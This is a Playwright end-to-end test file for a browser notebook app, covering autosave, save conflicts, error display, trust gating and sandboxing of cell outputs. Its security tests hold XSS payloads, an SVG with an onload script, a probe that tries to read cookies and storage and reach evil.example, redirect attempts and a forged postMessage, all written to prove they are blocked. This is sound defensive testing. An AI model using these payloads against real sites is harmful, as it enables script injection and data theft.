import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { codeCells, type Notebook } from "../../src/notebook.js";
import { formatNotebook } from "../../src/notebook-text.js";
import { runNotebook } from "../../src/run/run-notebook.js";
import { notebookOf } from "../fixtures/notebooks.js";
import { openPage, startBrowser } from "./open-page.js";

let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser.close());

/** Replaces the source of the cell whose editor has the focus. */
async function retype(page: Awaited<ReturnType<typeof openPage>>["page"], source: string): Promise<void> {
  await page.keyboard.press("Control+a");
  await page.keyboard.insertText(source);
}

describe("the notebook page", () => {
  it("draws a chart, and draws what depends on an edited cell again and nothing else, and saves it all", async () => {
    const sources = [
      "const least = 1",
      "charts.timeline(events.filter((event) => event.casualties.length >= least))",
      "globalThis.runs = (globalThis.runs ?? 0) + 1;\nArray(globalThis.runs + 1).join('run ')",
    ];
    const { page, cell, output, fromDisk, saved } = await openPage(browser, notebookOf(...sources));
    await output("c2").getByText("n = 2 incidents").waitFor();
    await output("c3").getByText("run").waitFor();
    await cell(1).locator(".cm-content").click();
    await retype(page, "const least: number = 9");
    await page.keyboard.press("Shift+Enter");
    await output("c2").getByText("n = 0 incidents").waitFor();
    expect(await output("c3").textContent()).toBe("run ");
    expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe("Code cell 2");
    await saved();
    const kept = codeCells(await fromDisk());
    expect(kept.map((one) => one.source)).toEqual(["const least: number = 9", ...sources.slice(1)]);
    expect(kept[1]?.outputs[0]).toMatchObject({
      data: { "image/svg+xml": expect.stringContaining("n = 0 incidents"), "image/png": expect.stringMatching(/^iVBOR/) },
    });
  });

  it("saves by itself, and shows what was kept after a reload", async () => {
    const { page, cell, output, fromDisk, saved } = await openPage(browser, notebookOf("'first'"));
    await output("c1").getByText("first").waitFor();
    await cell(1).locator(".cm-content").click();
    await page.evaluate(() => {
      const told = document.querySelector(".save-state");
      const note = () => document.body.setAttribute("data-states", `${document.body.dataset.states ?? ""} ${told?.textContent},`);
      if (told !== null) new MutationObserver(note).observe(told, { childList: true });
    });
    await retype(page, "'second'");
    await page.keyboard.press("Control+Enter");
    await output("c1").getByText("second").waitFor();
    await saved();
    expect(codeCells(await fromDisk())[0]).toMatchObject({ source: "'second'", outputs: [{ data: { "text/plain": "second" } }], execution_count: 1 });
    expect(await page.locator("body").getAttribute("data-states")).toMatch(/^ Not saved yet,.* Saving, Saved,$/);
    await page.reload();
    await output("c1").getByText("second").waitFor();
    await page.getByText("3 events").waitFor();
  });

  it("keeps in the file what a headless run would keep, to the byte", async () => {
    const notebook = notebookOf(
      "%md # Words",
      "charts.map(events)",
      "charts.casualties(events)",
      "Plot.plot({ width, marks: [Plot.barY(events, Plot.groupX({ y: 'count' }, { x: 'mode', fill: 'status' }))] })",
      "events.map(({ mode, status }) => ({ mode, status }))",
      "console.log('printed'); html`<p>words</p>`",
      "missing",
    );
    const { page, output, file, folder, saved, cell } = await openPage(browser, notebook);
    await output("c6").getByText("words").waitFor();
    await cell(7).getByRole("alert").waitFor();
    await saved();
    const out = join(folder, "headless.ipynb");
    await writeFile(out, formatNotebook(notebook));
    await runNotebook({ file: out, datasetDir: join(folder, "dataset") });
    expect(await readFile(file, "utf8")).toBe(await readFile(out, "utf8"));
    expect(await page.getByRole("alert").count()).toBe(1);
  });

  it("shows an error in its cell: plain words first, the line, the rest folded", async () => {
    const { page, cell, output } = await openPage(browser, notebookOf("const a = 1;\nnull.x;", "a", "const b = ;"));
    const alert = cell(1).getByRole("alert");
    await alert.waitFor();
    expect(await alert.locator(".message").textContent()).toMatch(/^Cannot read properties of null.*Line 2$/);
    expect(await alert.locator("pre").isVisible()).toBe(false);
    await alert.getByText("Details").click();
    expect(await alert.locator("pre").textContent()).toBe("TypeError: Cannot read properties of null (reading 'x')\nline 2");
    await alert.getByRole("button", { name: "Line 2" }).click();
    expect(await cell(1).locator(".cm-line.faulty").textContent()).toBe("null.x;");
    expect(await cell(2).getByRole("alert").locator(".message").textContent()).toMatch(/^a is not to be had: the cell that defines it failed\./);
    expect(await cell(3).getByRole("alert").locator(".message").textContent()).toMatch(/^Unexpected token\. Line 1$/);
    await retype(page, "const a = 1;");
    await page.keyboard.press("Shift+Enter");
    await output("c2").getByText("1").waitFor();
    await expect.poll(() => page.getByRole("alert").count()).toBe(1);
  });

  it("runs nothing before it is trusted, and what it keeps of a file is harmless", async () => {
    const attack = "globalThis.attacked = true";
    const notebook = notebookOf(`${attack}; window.parent.postMessage('attacked', '*'); 'ran'`);
    const html = `<img src=x onerror="${attack}"><script>${attack}</script><a href="javascript:${attack}">kept words</a><form action="https://evil.example"><button>x</button></form><meta http-equiv="refresh" content="0;url=https://evil.example"><iframe src="https://evil.example"></iframe>`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${attack}"><script>${attack}</script><image href="https://evil.example/x.png" width="9" height="9"/><circle r="9"/></svg>`;
    const [cell] = notebook.cells as [Notebook["cells"][0]];
    if (cell.cell_type === "code")
      cell.outputs = [{ "text/html": html }, { "image/svg+xml": svg, "text/plain": "a disc" }].map((data) => ({
        output_type: "display_data" as const,
        data,
        metadata: {},
      }));
    const { page, output, frame, expectedErrors } = await openPage(browser, notebook, { trusted: false });
    // Chromium names the handlers that it refuses while the HTML is being cleaned.
    expectedErrors.push(/inline event handler.*has been blocked/);
    await output("c1").getByText("kept words").waitFor();
    await output("c1").getByAltText("a disc").waitFor();
    expect(await output("c1").locator("script, iframe, form, meta, [onerror], [href^=javascript]").count()).toBe(0);
    await output("c1").getByText("kept words").click();
    expect(await frame.locator("body").evaluate(() => "attacked" in globalThis)).toBe(false);
    await page.getByRole("button", { name: "Run all cells" }).click();
    await output("c1").getByText("ran").waitFor();
    expect(await frame.locator("body").evaluate(() => "attacked" in globalThis)).toBe(true);
    expect(await page.evaluate(() => "attacked" in globalThis)).toBe(false);
    await page.reload();
    await output("c1").getByText("ran").waitFor();
    expect(await page.getByRole("button", { name: "Run all cells" }).count()).toBe(0);
  });

  it("shows a conflict, overwrites nothing, and keeps both versions", async () => {
    const { page, cell, output, file, folder, fromDisk, saved, expectedErrors } = await openPage(browser, notebookOf("'mine'"));
    expectedErrors.push(/409/);
    await output("c1").getByText("mine").waitFor();
    await saved();
    const theirs = formatNotebook(notebookOf("'theirs'"));
    await cell(1).locator(".cm-content").click();
    await retype(page, "'mine, changed'");
    await writeFile(file, theirs);
    await page.keyboard.press("Control+s");
    await page.getByText("Not saved: changed on disk").waitFor();
    expect(await page.getByRole("alert").textContent()).toContain("test.ipynb has changed on disk");
    expect(await readFile(file, "utf8")).toBe(theirs);
    await page.getByRole("button", { name: "Go on with this page" }).click();
    await page.getByText("is kept as test.conflict-1.ipynb").waitFor();
    expect((await fromDisk()).cells[0]?.source).toBe("'mine, changed'");
    expect(await readFile(join(folder, "test.conflict-1.ipynb"), "utf8")).toBe(theirs);
    expect((await readdir(folder)).filter((name) => name.includes("draft"))).toEqual([]);
  });

  it("shows what is on disk when the user goes on with the file, without running it", async () => {
    const { page, cell, output, file, expectedErrors, saved } = await openPage(browser, notebookOf("'mine'"));
    expectedErrors.push(/409/);
    await output("c1").getByText("mine").waitFor();
    await saved();
    await cell(1).locator(".cm-content").click();
    await retype(page, "'mine, changed'");
    await writeFile(file, formatNotebook(notebookOf("'theirs'")));
    await page.keyboard.press("Control+s");
    await page.getByRole("button", { name: "Go on with the file" }).click();
    await page.getByRole("button", { name: "Run all cells" }).waitFor();
    expect(await cell(1).locator(".cm-content").textContent()).toBe("'theirs'");
    await page.getByText("is kept as test.conflict-1.ipynb").waitFor();
    await output("c1").waitFor({ state: "attached" });
    expect(await output("c1").textContent()).toBe("");
  });
});

describe("the frame", () => {
  it("gives cells no cookie, no storage, no page and no way out", async () => {
    const probe = `const attempt = async (name, action) => { try { return name + ": " + JSON.stringify(await action()); } catch (error) { return name + " refused"; } };
const results = [];
for (const [name, action] of Object.entries({
  origin: () => self.origin,
  cookie: () => document.cookie,
  storage: () => window.localStorage.length,
  page: () => window.parent.document.title,
  api: () => fetch("/api/notebook").then((response) => response.status),
  outside: () => fetch("https://evil.example/").then((response) => response.status),
  socket: () => new Promise((resolve, reject) => { const socket = new WebSocket("wss://evil.example"); socket.onerror = reject; socket.onopen = resolve; }),
  image: () => new Promise((resolve, reject) => { const image = new Image(); image.onerror = reject; image.onload = resolve; image.src = "https://evil.example/x.png"; }),
  script: () => new Promise((resolve, reject) => { const script = document.createElement("script"); script.onerror = reject; script.onload = resolve; script.src = "https://evil.example/x.js"; document.head.append(script); }),
  worker: () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onerror = reject; worker.onmessage = resolve; }),
  rtc: () => new window.RTCPeerConnection() && true,
  popup: () => { if (open("https://evil.example") === null) throw new Error("none"); },
})) results.push(await attempt(name, action));
results.join("\\n")`;
    const { output, expectedErrors } = await openPage(browser, notebookOf(probe));
    expectedErrors.push(/Content Security Policy/, /Blocked opening/, /popup/);
    await output("c1").getByText("popup").waitFor();
    expect((await output("c1").textContent())?.split("\n")).toEqual([
      'origin: "null"',
      "cookie refused",
      "storage refused",
      "page refused",
      ...["api", "outside", "socket", "image", "script", "worker", "rtc", "popup"].map((name) => `${name} refused`),
    ]);
  });

  it("cannot take the page elsewhere, nor itself without the user being told", async () => {
    const sources = [
      "try { window.top.location = 'https://evil.example/top' } catch {}\n'stayed'",
      "if (true) window.location = 'https://evil.example/frame';",
    ];
    const { page, served, expectedErrors } = await openPage(browser, notebookOf(...sources));
    expectedErrors.push(/frame-src 'self'/, /Unsafe attempt to initiate navigation/);
    await page.getByRole("alert").getByText("A cell has sent the outputs' frame elsewhere").waitFor();
    expect(page.url()).toBe(`${new URL(served.url).origin}/`);
    expect(page.frames().map((frame) => frame.url())).toEqual([page.url(), "chrome-error://chromewebdata/"]);
  });

  it("can tell the page nothing but outputs, whatever a cell says to it", async () => {
    const forged =
      "window.parent.postMessage('dateline-frame-ready', '*'); window.parent.postMessage({ type: 'done', id: 'c2', outputs: [{ output_type: 'display_data', data: { 'text/html': '<img src=x onerror=alert(1)>' }, metadata: {} }], fitting: false }, '*'); 'sent'";
    const { page, output, fromDisk, saved } = await openPage(browser, notebookOf(forged, "'untouched'"));
    await output("c1").getByText("sent").waitFor();
    await output("c2").getByText("untouched").waitFor();
    await saved();
    expect(codeCells(await fromDisk())[1]?.outputs).toMatchObject([{ data: { "text/plain": "untouched" } }]);
    expect(await page.locator("img").count()).toBe(0);
  });
});
